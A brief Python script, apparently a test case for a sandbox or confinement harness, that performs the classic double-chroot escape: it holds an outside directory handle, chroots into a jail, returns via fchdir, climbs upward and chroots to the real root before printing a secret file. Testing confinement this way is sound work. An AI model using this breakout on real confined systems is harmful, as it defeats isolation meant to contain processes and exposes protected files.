"""Leaves with the classic second chroot."""

from kit import *

os.makedirs("jail", exist_ok=True)
outside = os.open(".", os.O_RDONLY)
attempt(os.chroot, "jail")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
attempt(os.chroot, ".")
show(SECRET_FILE)
